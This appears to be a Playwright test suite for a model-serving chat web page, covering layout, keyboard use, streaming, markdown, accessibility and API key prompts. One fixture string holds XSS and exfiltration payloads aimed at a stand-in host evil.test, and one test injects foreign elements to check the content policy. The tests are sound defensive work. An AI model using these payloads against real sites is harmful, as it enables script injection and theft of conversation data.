"""Tests the server's page in Chromium, on desktop and phone, with the keyboard, and in light and dark mode."""

from __future__ import annotations

import contextlib
import json
import shutil
import socket
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from parallelformers_ng.runtime.group import WorkerGroup
from tests.helpers.patience import PROMPTLY
from tests.helpers.server import Running, ScriptedModel, serving, serving_on, tiny_tokenizer

playwright = pytest.importorskip("playwright.sync_api", reason="the page is tested with playwright")
CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="the page is tested in Chromium; make page installs it"),
]
TOKENIZER = tiny_tokenizer()
DESKTOP, PHONE = 1280, 390
on_both = pytest.mark.parametrize("page", [DESKTOP, PHONE], indirect=True)
"""Runs a test of the layout at the width of a desktop and of a phone."""
HOSTILE = """\
<script>window.hit = 1</script> <img src=x onerror="window.hit = 1"> <svg onload="window.hit = 1">
<meta http-equiv="refresh" content="0;url=http://evil.test/"> <base href="http://evil.test/">
<iframe src="http://evil.test/"></iframe> <style>@import "http://evil.test/a.css"</style> <form action="http://evil.test">

![picture](http://evil.test/p.png?conversation) ![](data:image/svg+xml,<svg/onload=alert(1)>)
[one](javascript:window.hit=1) [two](data:text/html,<script>window.hit=1</script>) [three](JaVaScRiPt:window.hit=1)
[https://bank.test](http://evil.test/login) [four](http://evil.test/"onmouseover="window.hit=1)

# <b>title</b>
> <i>quote</i>
- <u>item</u>
| <s>a</s> | b |
| --- | --- |
| `<script>` | **<img src=y>** |

```html" onload="window.hit=1
<script>window.hit = 1</script>
"""
MARKDOWN = """\
# A title

Some **bold**, some *slanted*, `a < b`, a snake_case_name, 2 * 3 * 4.

- one
  - within
- two

7. seven
8. eight

> said

| a | b |
| --- | --- |
| 1 | 2 |

```python
if a < b:
    print("**")
```

[its page](https://example.org/x) and https://example.org.
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright.sync_playwright() as started:
        # Chromium has no sandbox for root in a container.
        browser = started.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        browser.close()


@pytest.fixture
def page(request: pytest.FixtureRequest, browser: Any) -> Iterator[Any]:
    """Yield a page that must log no errors to the console and must not send requests to other servers. By default it
    has the width of a desktop."""
    wrong: list[str] = []
    page = browser.new_page(viewport={"width": getattr(request, "param", DESKTOP), "height": 844})
    page.set_default_timeout(PROMPTLY * 1000)
    page.on("console", lambda message: wrong.extend([message.text] * ("Failed to load" not in message.text)))
    page.on("pageerror", lambda error: wrong.append(str(error)))
    page.on("request", lambda request: wrong.extend([request.url] * ("127.0.0.1" not in request.url)))
    yield page
    page.close()
    assert wrong == []


def shows(page: Any, place: str, text: str) -> None:
    page.locator(place, has_text=text).first.wait_for()


def send(page: Any, text: str) -> None:
    page.get_by_label("Your message").fill(text)
    page.keyboard.press("Enter")


def prompt_of(model: ScriptedModel, call: int = -1) -> str:
    return TOKENIZER.decode(model.calls[call]["input_ids"][0])


def violations(axe: Any, page: Any) -> list[Any]:
    reported = axe.run(page)["violations"]
    return [(each["id"], each["help"], [node["html"] for node in each["nodes"]]) for each in reported]


def answered(page: Any, says: str) -> Any:
    """Return the page element with the answer of a model that generates a fixed text."""
    model = ScriptedModel(TOKENIZER, says)
    model.config.max_position_embeddings = 8192
    with serving(model, TOKENIZER) as running:
        page.goto(running.url)
        send(page, "Hello")
        shows(page, "#outcome", "tokens in")
    return page.locator(".turn.assistant")


@pytest.fixture(scope="module")
def running(groups: Callable[[int], WorkerGroup]) -> Iterator[Running]:
    with serving_on(groups(2), TOKENIZER) as server:
        yield server


@on_both
def test_message_is_answered_with_ranks_and_plan_shown(running, page):
    page.goto(running.url)
    shows(page, "h1", "tiny")
    page.get_by_label("Maximum tokens").fill("12")
    send(page, "Hello")
    shows(page, "#outcome", "12 tokens in")
    shows(page, "#ranks", "1 (cpu:1)")
    shows(page, "#plan-text", "LlamaForCausalLM")
    page.locator("summary").click()
    assert page.locator("#picture rect").count() == 2 * page.locator("#plan-rows tr").count() > 0


def test_history_is_sent_and_survives_a_reload(page):
    model = ScriptedModel(TOKENIZER, "It says so.")
    with serving(model, TOKENIZER) as running:
        page.goto(running.url)
        page.get_by_label("System prompt").fill("Be brief.")
        page.get_by_label("Temperature").fill("0.5")
        page.get_by_label("Top-p").fill("0.9")
        page.get_by_label("Seed").fill("7")
        page.get_by_label("Stop:").fill("no such\nbut so.")
        send(page, "Hello")
        shows(page, "#outcome", "tokens in")
        page.get_by_label("Your message").press_sequentially("a")
        page.keyboard.press("Shift+Enter")
        page.keyboard.type("b")
        page.keyboard.press("Enter")
        running.until(lambda: page.locator(".turn").count() == 4 and len(model.calls) == 2)
        shows(page, "#outcome", "tokens in")
        said = (
            "<|start|>system\nBe brief.<|end|>\n<|start|>user\nHello<|end|>\n<|start|>assistant\nIt says so.<|end|>\n"
        )
        assert prompt_of(model) == said + "<|start|>user\na\nb<|end|>\n<|start|>assistant\n"
        config = model.calls[-1]["generation_config"]
        assert (config.temperature, config.top_p, model.calls[-1]["seed"]) == (0.5, 0.9, 7)
        page.get_by_label("Your message").fill("not sent")
        before = page.inner_text("#log")
        page.reload()
        assert page.inner_text("#log") == before
        assert page.get_by_label("Your message").input_value() == "not sent"
        assert page.get_by_label("System prompt").input_value() == "Be brief."
        assert page.context.cookies() == []
        page.get_by_role("button", name="New chat").click()
        send(page, "Again")
        running.until(lambda: len(model.calls) == 3)
        assert (
            prompt_of(model) == "<|start|>system\nBe brief.<|end|>\n<|start|>user\nAgain<|end|>\n<|start|>assistant\n"
        )


@on_both
def test_the_page_is_used_by_keyboard_alone(page):
    model = ScriptedModel(TOKENIZER, "It says so.", holds=True)
    with serving(model, TOKENIZER) as running:
        page.goto(running.url)
        shows(page, "#state", "Ready")
        page.keyboard.press("Tab")
        page.keyboard.press("Enter")  # follows the link that skips to the message
        page.keyboard.type("Hello")
        page.keyboard.press("Enter")
        running.until(lambda: model.calls)
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.id") == "stop"
        page.keyboard.press("Enter")
        shows(page, "#outcome", "Stopped.")
        assert page.evaluate("document.activeElement.id") == "prompt"
        assert page.get_by_label("Your message").input_value() == "Hello", (
            "a message without an answer returns to the input field"
        )
        reached = set()
        for _ in range(40):
            page.keyboard.press("Tab")
            reached.add(page.evaluate("document.activeElement.id || document.activeElement.textContent"))
        assert reached >= {
            "new", "log", "prompt", "go", "system", "temperature", "top_p", "seed", "max_tokens", "stops",
            "curl", "copy-curl", "Picture and table", "Routes and fields of the API",
        }  # fmt: skip


@on_both
def test_answer_streams_and_escape_stops_it(page):
    model = ScriptedModel(TOKENIZER, "It says so. " * 20, holds=True)
    with serving(model, TOKENIZER) as running:
        page.goto(running.url)
        send(page, "Hello")
        running.until(lambda: model.calls)
        shows(page, "#outcome", "Waiting for the first token")
        assert page.locator("#log").get_attribute("aria-busy") == "true"
        page.keyboard.press("Escape")
        shows(page, "#outcome", "Stopped.")
        running.until(lambda: model.cancelled == 1)
        model.release(running)
        page.get_by_label("Maximum tokens").fill("23")
        page.get_by_role("button", name="Send").click()
        shows(page, "#outcome", "23 tokens in")
        assert page.inner_text(".turn.assistant .body") == "It says so. It says so."


def test_first_token_ends_waiting_stopped_answer_stays(page):
    class Slow(ScriptedModel):
        async def agenerate(self, streamer, **kwargs):  # type: ignore[no-untyped-def]
            self._may_go.set()
            self.says = "It says"
            tokens = kwargs["generation_config"].max_new_tokens
            kwargs["generation_config"].max_new_tokens = min(tokens, 7)
            await super().agenerate(streamer, **kwargs)
            self._may_go.clear()
            try:
                await self._may_go.wait()
            finally:
                self.cancelled += 1

    model = Slow(TOKENIZER)
    with serving(model, TOKENIZER) as running:
        page.goto(running.url)
        send(page, "Hello")
        shows(page, "#outcome", "Writing")
        shows(page, ".turn.assistant .body", "It says")
        page.evaluate("document.getElementById('stop').click(); window.begun = performance.now()")
        page.wait_for_function("document.getElementById('outcome').textContent === 'Stopped.'")
        assert page.evaluate("performance.now() - window.begun") < 1000
        running.until(lambda: model.cancelled == 1)
        assert page.inner_text(".turn.assistant .body") == "It says"
        page.reload()
        assert page.inner_text(".turn.assistant .body") == "It says"


def test_markdown_becomes_elements(page):
    answer = answered(page, MARKDOWN)
    for place, text in (
        ("h4", "A title"), ("strong", "bold"), ("em", "slanted"), ("p code", "a < b"), ("blockquote", "said"),
        ("ul ul li", "within"), ("ol li", "seven"), ("th", "a"), ("td", "1"),
        ("pre", 'if a < b:\n    print("**")'), ("p", "a snake_case_name, 2 * 3 * 4."),
    ):  # fmt: skip
        assert text in answer.locator(place).first.inner_text()
    assert answer.locator("ol").get_attribute("start") == "7"
    assert answer.locator("em").count() == 1
    links = answer.locator("a").evaluate_all("links => links.map(link => [link.href, link.target, link.rel])")
    assert links == [
        ["https://example.org/x", "_blank", "noopener noreferrer nofollow"],
        ["https://example.org/", "_blank", "noopener noreferrer nofollow"],
    ]
    assert "its page (example.org)" in answer.inner_text(), "a link shows its host"


def test_a_hostile_answer_is_text(page):
    answer = answered(page, HOSTILE)
    page.wait_for_timeout(300)
    assert page.evaluate("window.hit") is None
    assert page.url.startswith("http://127.0.0.1")
    elements = answer.locator("*").evaluate_all("all => [...new Set(all.map(each => each.localName))]")
    assert set(elements) <= {
        "a", "article", "blockquote", "button", "code", "div", "h3", "h4", "li", "p", "pre", "span", "strong", "table",
        "tbody", "td", "th", "thead", "tr", "ul",
    }  # fmt: skip
    links = answer.locator("a").evaluate_all("links => links.map(link => link.href)")
    assert links
    assert all(link.startswith("http") for link in links), links
    assert "https://bank.test (evil.test)" in answer.inner_text()
    assert "<script>window.hit = 1</script>" in answer.inner_text()


@pytest.mark.parametrize(
    "hostile", [">" * 5000 + "x", "*a " * 5000, "[" * 20000, "- " * 4000, "`" * 3000 + "x", "|-" * 4000]
)
def test_unclosed_marks_do_not_block_the_page(browser, hostile):
    page = browser.new_page()
    with serving(ScriptedModel(TOKENIZER), TOKENIZER) as running:
        page.goto(running.url)
        took = page.evaluate(
            "text => { const begun = performance.now();"
            "markdown(document.createElement('div'), text); return performance.now() - begun }",
            hostile,
        )
    page.close()
    assert took < 1000


def test_content_policy_blocks_everything_foreign(browser):
    """The test inserts foreign elements into the page; the content policy must block their requests."""
    page = browser.new_page()
    with serving(ScriptedModel(TOKENIZER), TOKENIZER) as running, socket.create_server(("127.0.0.1", 0)) as elsewhere:
        page.goto(running.url)
        page.evaluate(
            """url => {
                const place = document.createElement("div");
                place.innerHTML = `<img src="${url}/p.png"><img src=x onerror="window.hit=1">`
                    + `<iframe src="${url}"></iframe><object data="${url}"></object>`
                    + `<link rel="stylesheet" href="${url}/a.css">`;
                document.body.append(place);
                const script = document.createElement("script");
                script.textContent = "window.hit = 1";
                document.body.append(script);
                fetch(url).catch(() => {});
            }""",
            f"http://127.0.0.1:{elsewhere.getsockname()[1]}",
        )
        elsewhere.settimeout(1)
        with contextlib.suppress(TimeoutError):
            while True:  # Chromium connects for the frame before it checks the policy, but sends no data
                assert elsewhere.accept()[0].recv(100) == b""
        assert page.evaluate("window.hit") is None
    page.close()


def test_answer_is_copied_and_writes_right_to_left(browser):
    context = browser.new_context(permissions=["clipboard-read", "clipboard-write"])
    page = context.new_page()
    answer = answered(page, "שלום **עולם**")
    answer.get_by_role("button", name="Copy").click()
    shows(page, ".turn button", "Copied")
    assert page.evaluate("navigator.clipboard.readText()") == "שלום **עולם**"
    assert answer.locator("p").evaluate("p => getComputedStyle(p).direction") == "rtl"
    assert page.locator("#prompt").get_attribute("dir") == "auto"
    page.evaluate("delete Navigator.prototype.clipboard")  # plain HTTP from another machine has no clipboard API
    page.get_by_label("Your message").fill("")
    page.locator("#copy-curl").click()
    shows(page, "#copy-curl", "Copied")
    page.get_by_label("Your message").press("Control+V")
    assert page.get_by_label("Your message").input_value() == page.inner_text("#curl")
    context.close()


def test_curl_line_and_documents_link_are_right(page):
    with serving(ScriptedModel(TOKENIZER, "It says so."), TOKENIZER, served_model_name="it's") as running:
        page.goto(running.url)
        shows(page, "#curl", "curl")
        line = page.inner_text("#curl")
        body = json.loads(line.partition("-d '")[2].removesuffix("'").replace("'\\''", "'"))
        assert line.startswith(f"curl {running.url}/v1/chat/completions ")
        assert running.client().post("/v1/chat/completions", json=body).status_code == 200
        page.get_by_role("link", name="Routes and fields of the API").click()
        shows(page, "h2", "POST /v1/chat/completions")
        shows(page, "tr", "frequency_penalty")


@pytest.mark.parametrize(("page", "scheme"), [(DESKTOP, "light"), (PHONE, "dark")], indirect=["page"])
def test_page_is_accessible(running, page, scheme):
    axe = pytest.importorskip("axe_core_python.sync_playwright").Axe()
    page.emulate_media(color_scheme=scheme)
    answered(page, MARKDOWN)
    page.goto(running.url)
    shows(page, "#plan-text", "LlamaForCausalLM")
    shows(page, "#ranks", "cpu:0")
    page.locator("summary").first.click()
    page.get_by_label("Maximum tokens").fill("4")
    send(page, MARKDOWN)
    shows(page, "#outcome", "tokens in")
    page.evaluate(
        "text => paint(document.querySelector('.turn.assistant'), { content: text, reasoning: text })",
        MARKDOWN,
    )
    assert violations(axe, page) == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "it fits the screen"
    page.goto(running.url + "/docs")
    assert violations(axe, page) == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "it fits the screen"


def test_errors_are_shown(page):
    with serving(ScriptedModel(TOKENIZER), TOKENIZER, max_prompt_tokens=30) as running:
        page.goto(running.url)
        send(page, "Hello, this is too long")
        shows(page, "#outcome.wrong", "limit is 30")
        assert page.locator(".turn").count() == 0
        assert page.get_by_label("Your message").input_value() == "Hello, this is too long"


def test_adapter_choice_is_remembered(page):
    model = ScriptedModel(TOKENIZER, "It says so.")
    with serving(model, TOKENIZER, lora_modules=["sql=a", "chat=b"]) as running:
        page.goto(running.url)
        page.locator("#choice").select_option("chat")
        shows(page, "#curl", '"model":"chat"')
        send(page, "Hello")
        shows(page, "#outcome", "tokens in")
        page.reload()
        shows(page, "#curl", '"model":"chat"')
        send(page, "Hello")
        running.until(lambda: len(model.calls) == 2)
        assert [call["adapter_names"] for call in model.calls] == [["adapter1"]] * 2


def test_a_model_without_a_template_continues_the_text(page):
    tokenizer = tiny_tokenizer()
    tokenizer.chat_template = None
    model = ScriptedModel(tokenizer, " upon *a* time")
    with serving(model, tokenizer) as running:
        page.goto(running.url)
        shows(page, "#chat-title", "Text")
        send(page, "Once")
        shows(page, "#outcome", "tokens in")
        assert page.inner_text(".turn.assistant .body") == " upon *a* time"
        send(page, " there")
        running.until(lambda: len(model.calls) == 2)
        assert prompt_of(model) == "Once upon *a* time there"


def test_the_key_is_asked_for_once(browser):
    with serving(ScriptedModel(TOKENIZER, "It says so."), TOKENIZER, api_key="the key") as running:
        context = browser.new_context(http_credentials={"username": "", "password": "the key"})
        page = context.new_page()
        page.goto(running.url)
        shows(page, "h1", "tiny")
        shows(page, "#curl", "$KEY")
        send(page, "Hello")
        shows(page, ".turn.assistant", "It says so.")
        context.close()
